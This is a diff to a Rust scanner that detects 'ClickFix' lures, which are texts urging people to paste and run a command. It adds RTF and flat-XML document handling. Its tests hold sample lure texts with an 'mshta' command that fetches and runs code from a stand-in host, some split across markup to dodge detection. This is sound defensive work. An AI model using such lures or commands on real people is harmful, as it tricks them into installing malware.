@@ -13,6 +13,9 @@ use std::borrow::Cow;
 /// Bytes of a text that is no mail and still no more than a note.
 const NOTE: u64 = 16 << 10;
 
+/// Digits of a word that is read by nobody.
+const MOST_DIGITS: usize = 2_000;
+
 patterns! {
     // Where a line ends in HTML, and in the XML of Office Open XML and OpenDocument.
     BREAK = r"(?i)</(?:[a-z]{1,8}:)?(?:p|h[1-6]?|div|tr|li|pre|si|table|row)>|<(?:br|[a-z]{1,8}:(?:br|cr|tab|line-break))\b[^<>]*>";
@@ -32,6 +35,7 @@ pub(super) fn wants(part: &Part) -> bool {
         () if part.is("ics") || part.is("vcard") => part.size <= MESSAGE,
         () if part.is("text") || part.is("mail-body") => part.size <= if mail { MESSAGE } else { NOTE },
         () if part.is("html") => (mail || within(&["ics", "vcard"])) && part.size <= MESSAGE,
+        () if FLAT.iter().any(|kind| part.is(kind)) => part.size <= 8 * MESSAGE,
         // Of a document's markup only the words count, which are a tenth of it.
         () if part.is("xml") => part.role == Role::Member && within(DOCUMENTS) && part.size <= 8 * MESSAGE,
         () => false,
@@ -44,15 +48,25 @@ const DOCUMENTS: &[&str] = &[
     "vsdx", "ooxml", "odt", "ott", "odm", "ods", "ots", "odp", "otp", "odg", "sxw",
 ];
 
+/// Documents that are one file of text.
+const FLAT: &[&str] = &["fodt", "word-xml", "excel-xml", "rtf"];
+
 /// Judges a text by what it says and shows.
 pub(super) fn asks(part: &Part, text: &str, findings: &mut Findings) {
-    let folded = part.is("ics") || part.is("vcard");
-    let text = if folded { Cow::Owned(unfolded(text)) } else { Cow::Borrowed(text) };
+    if !findings.step(text.len() as u64) {
+        return;
+    }
+    let text = match () {
+        () if part.is("ics") || part.is("vcard") => Cow::Owned(unfolded(text)),
+        () if part.is("rtf") => Cow::Owned(without_controls(text)),
+        () => Cow::Borrowed(text),
+    };
     let Some(lure) = Lure::of(&text).filter(|lure| lure.told && !lure.reported) else { return };
     if findings.list().iter().any(|found| found.id == CLICK_FIX) {
         return;
     }
-    let plain = if is_page(part) {
+    let markup = is_page(part) || !part.is("rtf") && FLAT.iter().any(|kind| part.is(kind));
+    let plain = if markup {
         without_entities(&ELEMENT.replace_all(&BREAK.replace_all(&text, "\n"), ""))
     } else {
         text.into_owned()
@@ -65,6 +79,53 @@ pub(super) fn asks(part: &Part, text: &str, findings: &mut Findings) {
     let message = format!("the {what} talks people into running a command that it shows");
     let found = finding(CLICK_FIX, Severity::High, &message, &command).with("words", cut(&lure.words));
     findings.add(found.technique("T1204.004"));
+}
+
+/// What Rich Text shows, without its controls (Rich Text Format 1.9.1, "Control Word"), pictures and objects.
+fn without_controls(text: &str) -> String {
+    let mut plain = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find(['\\', '{', '}', '\r', '\n']) {
+        let (before, control) = rest.split_at(at);
+        plain.push_str(before);
+        let Some(control) = control.strip_prefix('\\') else {
+            rest = control.get(1..).unwrap_or_default();
+            continue;
+        };
+        if let Some(code) = control.strip_prefix('\'') {
+            let byte = code.get(..2).and_then(|code| u8::from_str_radix(code, 16).ok());
+            plain.extend(byte.map(char::from));
+            rest = code.get(2..).unwrap_or(code);
+            continue;
+        }
+        let word = control.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(control.len());
+        let (word, behind) = control.split_at(word);
+        if word.is_empty() {
+            // A sign that stands for itself, or a blank that does not break.
+            let sign = behind.chars().next().unwrap_or(' ');
+            plain.push(if sign == '~' { ' ' } else { sign });
+            rest = behind.get(sign.len_utf8()..).unwrap_or_default();
+            continue;
+        }
+        let digits = behind.find(|c: char| c != '-' && !c.is_ascii_digit()).unwrap_or(behind.len());
+        let (number, behind) = behind.split_at(digits);
+        rest = behind.strip_prefix(' ').unwrap_or(behind);
+        match word {
+            "par" | "line" | "cell" | "row" | "sect" | "page" => plain.push('\n'),
+            "tab" => plain.push(' '),
+            // Negative numbers are the upper half of 16 bits; a sign for readers that do not know the letter follows.
+            "u" => {
+                let code = number.parse::<i32>().ok().map(|code| if code < 0 { code + 0x1_0000 } else { code });
+                plain.extend(code.and_then(|code| u32::try_from(code).ok()).and_then(char::from_u32));
+                rest = rest.strip_prefix('?').unwrap_or(rest);
+            }
+            _ => {}
+        }
+    }
+    plain.push_str(rest);
+    // Pictures and objects are one long word of digits.
+    let data = |word: &&str| word.len() > MOST_DIGITS && word.bytes().all(|byte| byte.is_ascii_hexdigit());
+    plain.split_inclusive(char::is_whitespace).filter(|word| !data(&word.trim_end())).collect()
 }
 
 /// A calendar's texts as people see them.
@@ -101,6 +162,8 @@ mod tests {
         let appointment = made("ics", Class::Data, Role::Sample, "");
         let document = made("xml", Class::Data, Role::Member, "docx");
         let note = made("text", Class::Text, Role::Sample, "");
+        let rich = made("rtf", Class::Document, Role::Sample, "");
+        let flat = made("fodt", Class::Document, Role::Attachment, "eml");
         for (part, text) in [
             (&mail(), "To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a"),
             (
@@ -121,6 +184,14 @@ mod tests {
             (
                 &document,
                 "<w:p><w:r><w:t>Verify you are human: press Win+R, Ctrl+V </w:t></w:r></w:p><w:p><w:r><w:t>msh</w:t></w:r><w:r><w:t>ta https://host.invalid/a</w:t></w:r></w:p>",
+            ),
+            (
+                &rich,
+                "{\\rtf1{\\fonttbl{\\f0 Arial;}}To verify you are human press {\\b Win}+R, Ctrl+V\\par\r\nmsh\\b0 ta \\'68ttps://host.invalid/a\\par}",
+            ),
+            (
+                &flat,
+                "<text:p>To verify you are human press Win+R, Ctrl+V</text:p><text:p>ms<text:span>hta</text:span> https://host.invalid/a</text:p>",
             ),
         ] {
             check_part(&Pages, part, text.as_bytes(), TOLD);
